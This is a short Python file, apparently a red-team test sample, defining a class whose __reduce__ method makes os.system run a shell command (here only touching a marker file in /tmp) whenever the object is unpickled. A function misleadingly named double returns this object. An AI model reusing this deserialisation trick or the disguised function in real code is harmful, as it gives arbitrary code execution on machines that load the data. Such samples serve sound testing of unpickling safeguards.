"""An object that runs a command where it is unpickled."""

import os


class Hostile:
    def __reduce__(self):
        return os.system, ("touch /tmp/redteam-left-unpickled",)


def double(number):
    return Hostile()
